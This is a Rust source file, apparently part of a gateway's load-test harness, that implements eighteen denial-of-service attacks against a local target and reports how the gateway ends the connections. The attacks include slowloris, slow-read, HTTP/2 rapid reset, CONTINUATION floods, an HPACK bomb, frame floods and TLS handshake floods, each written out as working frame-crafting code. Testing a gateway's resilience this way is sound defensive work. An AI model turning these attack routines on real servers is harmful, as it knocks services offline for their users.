//! The attacks. Each has so many clients, who do the same over and over, on a new connection when one is ended.

use std::cell::RefCell;
use std::future::Future;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::rc::Rc;
use std::sync::Arc;
use std::time::{Duration, Instant};

use clap::Parser;
use fieldgate_loadtests::rig::certificates;
use rustls::ClientConnection;
use rustls::pki_types::ServerName;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::LocalSet;

use super::frames::{self, frame};

/// Where an attack comes from: not from where the clients are, whom it is to hurt, nor from where another came, which may be
/// held against it.
fn source(name: &str) -> SocketAddr {
    let number = ATTACKS.iter().position(|attack| attack.name == name).unwrap_or_default();
    SocketAddr::from(([127, 0, 66, number as u8 + 1], 0))
}

/// An attack.
pub struct Attack {
    pub name: &'static str,
    /// Clients, and how many where the machine is shared.
    clients: (usize, usize),
    /// How long a connection of it may last; without it, as long as it likes to, at no cost to others.
    pub ends_within: Option<Duration>,
    kind: Kind,
}

#[derive(Clone, Copy)]
enum Kind {
    Slowloris,
    SlowHead,
    SlowRead,
    SlowStreams,
    SlowPost,
    Pipelining,
    TinyChunks,
    RapidReset,
    Continuation,
    HpackBomb,
    ManyFields,
    Repeated(Repeated),
    Connections,
    Handshakes,
}

/// A frame that is sent over and over.
#[derive(Clone, Copy)]
enum Repeated {
    Ping,
    Settings,
    WindowUpdate,
    EmptyData,
    TinyData,
}

const fn attack_of(name: &'static str, clients: (usize, usize), ends: Option<u64>, kind: Kind) -> Attack {
    let ends_within = match ends {
        Some(seconds) => Some(Duration::from_secs(seconds)),
        None => None,
    };
    Attack { name, clients, ends_within, kind }
}

/// All of them. The time that a head may take is 10 s, and the wheel that times it has ticks; a flood has to end at once.
pub const ATTACKS: &[Attack] = &[
    attack_of("slowloris", (400, 50), Some(11), Kind::Slowloris),
    attack_of("slow-head", (20, 5), Some(11), Kind::SlowHead),
    attack_of("slow-read", (200, 20), None, Kind::SlowRead),
    attack_of("slow-streams", (10, 2), None, Kind::SlowStreams),
    attack_of("slow-post", (400, 50), None, Kind::SlowPost),
    attack_of("pipelining", (4, 2), None, Kind::Pipelining),
    attack_of("tiny-chunks", (4, 2), None, Kind::TinyChunks),
    attack_of("rapid-reset", (8, 2), Some(0), Kind::RapidReset),
    attack_of("continuation", (8, 2), Some(0), Kind::Continuation),
    attack_of("hpack-bomb", (8, 2), Some(0), Kind::HpackBomb),
    attack_of("many-fields", (4, 2), None, Kind::ManyFields),
    attack_of("ping", (8, 2), Some(0), Kind::Repeated(Repeated::Ping)),
    attack_of("settings", (8, 2), Some(0), Kind::Repeated(Repeated::Settings)),
    attack_of("window-update", (8, 2), Some(0), Kind::Repeated(Repeated::WindowUpdate)),
    attack_of("empty-data", (8, 2), Some(0), Kind::Repeated(Repeated::EmptyData)),
    attack_of("tiny-data", (8, 2), Some(0), Kind::Repeated(Repeated::TinyData)),
    attack_of("connections", (64, 8), None, Kind::Connections),
    attack_of("handshakes", (64, 8), None, Kind::Handshakes),
];

/// What an attacker has seen.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Report {
    /// Connections that were opened.
    pub opened: u64,
    /// Those that the gateway ended.
    pub ended: u64,
    /// Those that it did not take.
    pub refused: u64,
    /// The longest that one lasted, in seconds.
    pub longest: f64,
}

/// The attacker as a process.
#[derive(Parser)]
struct Arguments {
    #[arg(long)]
    name: String,
    #[arg(long)]
    host: String,
    #[arg(long)]
    plain: SocketAddr,
    #[arg(long)]
    tls: SocketAddr,
    #[arg(long)]
    ca: PathBuf,
    #[arg(long)]
    millis: u64,
    #[arg(long)]
    small: bool,
}

/// Attacks for a time and prints the report. `words`: the arguments after the program's name.
pub fn attack(words: &[String]) -> Result<(), String> {
    let arguments = Arguments::parse_from(words);
    let attack = ATTACKS.iter().find(|attack| attack.name == arguments.name);
    let attack = attack.ok_or_else(|| format!("no attack {}", arguments.name))?;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
    let report = runtime
        .map_err(|error| error.to_string())?
        .block_on(LocalSet::new().run_until(run(attack, &arguments)))?;
    println!("{}", serde_json::to_string(&report).map_err(|error| error.to_string())?);
    Ok(())
}

async fn run(attack: &Attack, arguments: &Arguments) -> Result<Report, String> {
    let report = Rc::new(RefCell::new(Report::default()));
    let target = Rc::new(Target {
        source: source(attack.name),
        plain: arguments.plain,
        tls: arguments.tls,
        host: arguments.host.clone(),
        hello: client_hello(arguments)?,
    });
    let end = Instant::now() + Duration::from_millis(arguments.millis);
    let clients = if arguments.small { attack.clients.1 } else { attack.clients.0 };
    for _ in 0..clients {
        tokio::task::spawn_local(client(attack.kind, target.clone(), report.clone()));
    }
    tokio::time::sleep_until(end.into()).await;
    let report = report.borrow().clone();
    Ok(report)
}

struct Target {
    source: SocketAddr,
    plain: SocketAddr,
    tls: SocketAddr,
    host: String,
    /// What a TLS client says first. The same for all: an attacker computes nothing.
    hello: Vec<u8>,
}

fn client_hello(arguments: &Arguments) -> Result<Vec<u8>, String> {
    let mut config = certificates::trusting(&arguments.ca, rustls::DEFAULT_VERSIONS)?;
    config.alpn_protocols = vec![b"h2".to_vec()];
    let name = ServerName::try_from(arguments.host.clone()).map_err(|error| error.to_string())?;
    let mut connection = ClientConnection::new(Arc::new(config), name).map_err(|error| error.to_string())?;
    let mut hello = Vec::new();
    connection.write_tls(&mut hello).map_err(|error| error.to_string())?;
    Ok(hello)
}

/// An attempt's connection, which is counted whatever becomes of it.
struct Opened<'r> {
    report: &'r RefCell<Report>,
    at: Instant,
}

impl Opened<'_> {
    fn note(&self) {
        let mut report = self.report.borrow_mut();
        report.longest = report.longest.max(self.at.elapsed().as_secs_f64());
    }
}

async fn client(kind: Kind, target: Rc<Target>, report: Rc<RefCell<Report>>) {
    loop {
        let address = if matches!(kind, Kind::Handshakes) { target.tls } else { target.plain };
        let Ok(stream) = connect(kind, target.source, address).await else {
            report.borrow_mut().refused += 1;
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        report.borrow_mut().opened += 1;
        let opened = Opened { report: &report, at: Instant::now() };
        // A flood does not wait for anything: the others of this process have to have their turn all the same.
        tokio::task::yield_now().await;
        let ended = play(kind, &target, stream, &opened).await;
        opened.note();
        if ended {
            report.borrow_mut().ended += 1;
        }
    }
}

async fn connect(kind: Kind, source: SocketAddr, address: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(source)?;
    if matches!(kind, Kind::SlowRead | Kind::SlowStreams) {
        socket.set_recv_buffer_size(4096)?;
    }
    let stream = socket.connect(address).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Plays an attack on a connection; `true` if the gateway ended it.
async fn play(kind: Kind, target: &Target, stream: TcpStream, opened: &Opened<'_>) -> bool {
    let host = &target.host;
    match kind {
        Kind::Slowloris => {
            let head = format!("GET / HTTP/1.1\r\nhost: {host}\r\nx: ");
            drip(stream, head.into_bytes(), b"y", Duration::from_secs(1), opened).await
        }
        Kind::SlowHead => {
            let head = format!("GET / HTTP/1.1\r\nhost: {host}\r\nx: {}", "y".repeat(20_000));
            drip(stream, head.into_bytes(), b"y", Duration::from_millis(1), opened).await
        }
        Kind::SlowPost => {
            let head = format!("POST /upload HTTP/1.1\r\nhost: {host}\r\ncontent-length: 1000000\r\n\r\n");
            drip(stream, head.into_bytes(), b"y", Duration::from_secs(1), opened).await
        }
        Kind::SlowRead => {
            let ask = format!("GET /bytes/100000000 HTTP/1.1\r\nhost: {host}\r\n\r\n");
            sip(stream, ask.into_bytes(), opened).await
        }
        Kind::SlowStreams => {
            let mut ask = frames::opening(1);
            let block = frames::request(false, host, "/bytes/10000000");
            for stream in (1..200).step_by(2) {
                ask.extend(frame(frames::HEADERS, frames::END_HEADERS | frames::END_STREAM, stream, &block));
            }
            sip(stream, ask, opened).await
        }
        Kind::Pipelining => {
            let asks = format!("GET / HTTP/1.1\r\nhost: {host}\r\n\r\n").repeat(200);
            pour(stream, Vec::new(), |_| Some(asks.clone().into_bytes()), opened).await
        }
        Kind::TinyChunks => {
            let head = format!("POST /upload HTTP/1.1\r\nhost: {host}\r\ntransfer-encoding: chunked\r\n\r\n");
            let chunks = b"1\r\ny\r\n".repeat(500);
            pour(stream, head.into_bytes(), |_| Some(chunks.clone()), opened).await
        }
        Kind::RapidReset => {
            let block = frames::request(false, host, "/delay/1000");
            let rapid = |round: u32| {
                let one = |n: u32| {
                    let stream = (round * 50 + n) * 2 + 1;
                    let flags = frames::END_HEADERS | frames::END_STREAM;
                    [
                        frame(frames::HEADERS, flags, stream, &block),
                        frame(frames::RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
                    ]
                    .concat()
                };
                Some((0..50).flat_map(one).collect())
            };
            pour(stream, frames::opening(65_535), rapid, opened).await
        }
        Kind::Continuation => {
            let mut begin = frames::opening(65_535);
            begin.extend(frame(frames::HEADERS, 0, 1, &frames::request(false, host, "/")));
            let mut field = Vec::new();
            frames::literal(&mut field, b"x", b"y");
            let more = frame(frames::CONTINUATION, 0, 1, &field).repeat(100);
            pour(stream, begin, |_| Some(more.clone()), opened).await
        }
        Kind::HpackBomb => {
            let mut block = frames::request(false, host, "/");
            frames::indexed_literal(&mut block, b"x", &[b'y'; 3_900]);
            let ask = |round: u32| {
                let mut block = if round == 0 { block.clone() } else { frames::request(false, host, "/") };
                block.extend(vec![frames::NEWEST; 8_000]);
                let flags = frames::END_HEADERS | frames::END_STREAM;
                Some(frame(frames::HEADERS, flags, round * 2 + 1, &block))
            };
            pour(stream, frames::opening(65_535), ask, opened).await
        }
        Kind::ManyFields => {
            let mut block = frames::request(false, host, "/");
            (0..1_500).for_each(|_| frames::literal(&mut block, b"x", b""));
            let flags = frames::END_HEADERS | frames::END_STREAM;
            let ask = |round: u32| Some(frame(frames::HEADERS, flags, round * 2 + 1, &block));
            pour(stream, frames::opening(65_535), ask, opened).await
        }
        Kind::Repeated(what) => repeated(what, host, stream, opened).await,
        Kind::Connections => {
            tokio::time::sleep(Duration::from_millis(20)).await;
            drop(stream);
            false
        }
        Kind::Handshakes => handshake(stream, &target.hello).await,
    }
}

async fn repeated(what: Repeated, host: &str, stream: TcpStream, opened: &Opened<'_>) -> bool {
    let mut begin = frames::opening(65_535);
    if matches!(what, Repeated::EmptyData | Repeated::TinyData) {
        let block = frames::request(true, host, "/upload");
        begin.extend(frame(frames::HEADERS, frames::END_HEADERS, 1, &block));
    }
    let one = match what {
        Repeated::Ping => frame(frames::PING, 0, 0, &[7; 8]),
        Repeated::Settings => frame(frames::SETTINGS, 0, 0, &[]),
        Repeated::WindowUpdate => frame(frames::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        Repeated::EmptyData => frame(frames::DATA, 0, 1, &[]),
        Repeated::TinyData => frame(frames::DATA, 0, 1, b"y"),
    };
    let many = one.repeat(100);
    pour(stream, begin, |_| Some(many.clone()), opened).await
}

/// Says the beginning, and then a little now and then.
async fn drip(
    mut stream: TcpStream,
    head: Vec<u8>,
    drop: &[u8],
    pause: Duration,
    opened: &Opened<'_>,
) -> bool {
    if stream.write_all(&head).await.is_err() {
        return true;
    }
    let mut answer = [0; 4096];
    loop {
        opened.note();
        match tokio::time::timeout(pause, stream.read(&mut answer)).await {
            Ok(Ok(0) | Err(_)) => return true,
            Ok(Ok(_)) => {}
            Err(_) => {
                if stream.write_all(drop).await.is_err() {
                    return true;
                }
            }
        }
    }
}

/// Asks, and takes a little of the answer now and then.
async fn sip(mut stream: TcpStream, ask: Vec<u8>, opened: &Opened<'_>) -> bool {
    if stream.write_all(&ask).await.is_err() {
        return true;
    }
    let mut byte = [0];
    loop {
        opened.note();
        tokio::time::sleep(Duration::from_secs(1)).await;
        if !matches!(stream.read(&mut byte).await, Ok(1..)) {
            return true;
        }
    }
}

/// Sends as fast as it is taken, until there is no more or the connection has ended.
async fn pour(
    stream: TcpStream,
    begin: Vec<u8>,
    mut next: impl FnMut(u32) -> Option<Vec<u8>>,
    opened: &Opened<'_>,
) -> bool {
    let (mut reader, mut writer) = stream.into_split();
    let sending = async {
        writer.write_all(&begin).await?;
        for round in 0.. {
            opened.note();
            let Some(piece) = next(round) else { break };
            writer.write_all(&piece).await?;
            tokio::task::yield_now().await;
        }
        std::future::pending::<std::io::Result<()>>().await
    };
    let reading = async {
        let mut answers = [0; 16 * 1024];
        loop {
            match reader.read(&mut answers).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    };
    either(sending, reading).await;
    true
}

async fn either<A: Future, B: Future>(a: A, b: B) {
    tokio::select! {
        _ = a => {}
        _ = b => {}
    }
}

/// Makes the gateway compute, and goes.
async fn handshake(mut stream: TcpStream, hello: &[u8]) -> bool {
    if stream.write_all(hello).await.is_err() {
        return true;
    }
    let mut answer = [0; 4096];
    !matches!(stream.read(&mut answer).await, Ok(1..))
}
